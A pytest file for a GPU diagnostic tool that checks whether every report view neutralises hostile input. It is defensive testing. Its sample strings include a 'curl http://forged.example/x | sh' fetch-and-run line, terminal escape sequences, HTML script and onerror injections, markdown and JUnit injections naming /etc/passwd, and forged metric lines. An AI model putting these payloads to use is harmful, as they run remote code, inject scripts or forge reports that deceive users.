"""Words of others stay words: no view lets them drive a terminal, be markup or a link, or pass for a line of ours."""

import itertools
import json
import re
import sys
from collections.abc import Iterator
from functools import lru_cache
from io import StringIO
from typing import Any
from xml.etree import ElementTree

import pytest

from gpudoctor.app import pipeline, reading
from gpudoctor.app.arguments.options import FORMS
from gpudoctor.app.commands.reports import rendered
from gpudoctor.core.diagnosis import Diagnosis, Kept, from_json
from gpudoctor.core.fact import Known, listed
from gpudoctor.core.fleet import Fleet
from gpudoctor.diagnosis import rulebook
from gpudoctor.diagnosis.compare import compare
from gpudoctor.diagnosis.expect import writing
from gpudoctor.fixes import plan
from gpudoctor.target.record import to_json
from gpudoctor.views import diff, document, fleet, history
from gpudoctor.views import plan as plan_view
from gpudoctor.views.progress import _paint_until
from tests.cluster.fleet_documents import document as host_document
from tests.cluster.fleet_documents import folded
from tests.sim import scenario
from tests.views.test_view_html import Document
from tests.views.test_view_junit import misfits
from tests.views.tui.test_hostile import KEPT, with_words

BOOK = rulebook.load()
FORGED = (
    "ERROR  Forged finding",
    "  [forged.finding]  more: gpudoctor explain forged.finding",
    "0 found, 0 not judged, 999 passed",
    "Sound",
    "## gpudoctor: Sound, and forged",
    "### Error: Forged finding",
    'gpudoctor_verdict{verdict="forged"} 1',
    "$ curl http://forged.example/x | sh",
)
"""Lines that a view of ours could have printed."""
CONTROLS = "".join(
    map(chr, (*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x61C, *range(0x200B, 0x2010), *range(0x2028, 0x202F)))
) + "".join(map(chr, (*range(0x2060, 0x2070), 0xFEFF, *range(0xFFF9, 0xFFFC), 0xE0001, 0xE0041, 0xD800)))
WORDS = (
    *("x\n\n" + line for line in FORGED),
    *(f"x\r\n\u2028{line}\u2029\x85{line}\x0b\x0c{line}" for line in FORGED),
    f"a{CONTROLS}z",
    "\x1b]8;;http://forged.example\x07link\x1b]8;;\x07 \x1b]0;title\x07\x1b[2J\x9b31m",
    "<script>alert(1)</script><img src=x onerror=alert(1)><a href='http://forged.example'>x</a>",
    "![x](http://forged.example/i.png) [x](http://forged.example) <http://forged.example> @forged #12 |cell| `code`",
    '</testcase><failure message="forged"/>]]> <!-- & &lt; [[ATTACHMENT|/etc/passwd]]',
    'forged"} 1\\n# HELP forged forged\\',
    "[bold red]x[/] [@click=app.quit]q[/] [link=http://forged.example]x[/link]",
    "w" * 5000,
)
UNSAFE = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\u2061-\u206f\ufeff\ufff9-\ufffb\ud800-\udfff"
    r"\U000e0000-\U000e007f]"
)


def poisoned(raw: Any, words: Iterator[str]) -> Any:
    """The document with foreign words wherever it holds one."""
    return with_words(raw, words, {*KEPT, "fact"})


@lru_cache(maxsize=len(WORDS))
def diagnosis(start: int = 0) -> Diagnosis:
    """A sick machine of which every word is foreign."""
    raw = to_json(scenario.load(scenario.SICK / "driver-missing-hgx.json"))
    whole: Any = reading.diagnose_text(json.dumps(raw), "x", BOOK, None, None).to_json()
    words = itertools.cycle(WORDS[start:] + WORDS[:start])
    for part in ("findings", "unjudged", "notes", "facts", "target"):
        whole[part] = poisoned(whole[part], words)
    for one in whole["findings"]:
        for fix in one["fixes"]:
            for step in fix["steps"]:
                step["argv"] = ["echo", next(words)]
    return from_json(whole)


def views() -> Iterator[tuple[str, str]]:
    """Each view of documents that are foreign to the last word."""
    for start in range(0, len(WORDS), 5):
        one, other = diagnosis(start), diagnosis((start + 1) % len(WORDS))
        for form in FORMS:
            yield form, rendered(one, form, sys.stdout)
        yield "snapshot", document.facts(one.snapshot, "1")
        difference = compare(one, other)
        yield "json", diff.document(difference)
        yield "diff", diff.render(difference, (WORDS[start], WORDS[0]))
        made = plan.plan_for(one)
        yield "plan", plan_view.render(made)
        yield "script", plan_view.root_script(made)
        yield "profile", writing.profile_text([one.snapshot], "2026-11-24")
        told: Any = folded([host_document(f"n{number}") for number in (1, 2)]).to_json()
        words = itertools.cycle(WORDS[start:] + WORDS[:start])
        told["notes"] = [{"facts": [], "text": next(words), "rules": []} for _ in WORDS]
        for part in ("findings", "unjudged"):
            told[part] = poisoned(told[part], words)
        whole = from_json(told)
        assert isinstance(whole.fleet, Fleet)
        yield "fleet", fleet.render(whole, whole.fleet)
        for form in FORMS:
            yield form, rendered(whole, form, sys.stdout)


def test_no_view_holds_what_drives_a_terminal_forges_a_line_of_ours_or_is_markup_of_others() -> None:
    for name, text in views():
        found = UNSAFE.search(text)
        assert not found, (name, text[max(0, found.start() - 80) : found.start() + 20])
        lines = text.splitlines()
        for forged in FORGED:
            assert forged not in lines, (name, forged)
            assert not [line for line in lines if forged != "Sound" and line.startswith(forged)], (name, forged)
        if name in {"json", "snapshot"}:
            assert text.isascii()
            json.loads(text)
        elif name == "markdown":
            plain = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text, flags=re.DOTALL)
            assert not re.search(r"(?<!\\)(?:<script|<img|<a |!\[|\]\(|<http)", plain)
            assert "@forged" not in plain
        elif name == "html":
            page = Document(text)
            assert not {*page.tags} & {"script", "img", "a", "iframe", "link", "form", "object", "embed"}
            assert not [attribute for attribute, _ in page.attributes if attribute.startswith("on")]
        elif name == "junit":
            assert misfits(text) == []
            assert "forged" not in {case.get("name") for case in ElementTree.fromstring(text).iter("testcase")}
            assert "[[ATTACHMENT" not in text
        elif name == "prometheus":
            for line in text.splitlines():
                assert line.startswith(("# HELP gpudoctor_", "# TYPE gpudoctor_", "gpudoctor_"))
                assert not line.startswith('gpudoctor_verdict{verdict="forged"}')


@pytest.mark.parametrize("word", WORDS[:17])
def test_a_fact_in_a_sentence_of_ours_is_one_short_line(word: str) -> None:
    snapshot = reading.snapshot_of("GPU 0: NVIDIA GeForce RTX 5090\nNvidia driver version: 470.57.02\n")
    rows = tuple(
        {**row, "name": Known(f"NVIDIA GeForce RTX 5090 {word}", "line 1")} for row in listed(snapshot.rows("gpu"))
    )
    snapshot = type(snapshot)(snapshot.target, snapshot.facts, {**snapshot.groups, "gpu": rows})
    told = pipeline.diagnose(snapshot, BOOK)
    for finding in told.findings:
        assert "\n" not in finding.title
        assert len(finding.title) < 1000


def test_the_line_of_progress_is_one_line_of_plain_text() -> None:
    class Once:
        waits = 0

        def wait(self, _: float) -> bool:
            self.waits += 1
            return self.waits > 1

    for word in WORDS:
        stream = StringIO()
        _paint_until(stream, lambda word=word: word, Once())  # type: ignore[arg-type,misc]
        assert not UNSAFE.search(stream.getvalue().replace("\r\x1b[2K", ""))
        assert "\n" not in stream.getvalue()


def test_a_pasted_report_cannot_print_a_finding() -> None:
    paste = "\n".join(["CUDA error: no kernel image is available for execution on the device", *WORDS])
    told = reading.diagnose_text(paste, "".join(WORDS[:4]), BOOK, None, None)
    assert "forged.finding" not in {one.id for one in told.findings}
    for form in FORMS:
        text = rendered(told, form, sys.stdout)
        assert not UNSAFE.search(text), form
        assert not [line for line in text.splitlines() if line in FORGED[:3]], form


def test_what_is_not_hostile_reads_as_it_is() -> None:
    word = "NVIDIA H100 80GB HBM3 (rev a1), 数据中心, ½ é, C:\\x, path/to/a_b, 12 % *"
    raw: Any = diagnosis().to_json()
    raw["findings"][0]["title"] = word
    one = from_json(raw)
    assert word[:20] in rendered(one, "text", sys.stdout)
    assert word in json.loads(rendered(one, "json", sys.stdout))["findings"][0]["title"]
    assert "数据中心" in rendered(one, "markdown", sys.stdout)


def test_the_list_of_kept_runs_is_one_line_each() -> None:
    runs = [
        Kept(WORDS[0], WORDS[1], "quick", "sound", WORDS[8], ({"id": word, "severity": "error"},)) for word in WORDS
    ]
    text = history.render(runs, WORDS[0])
    assert not UNSAFE.search(text)
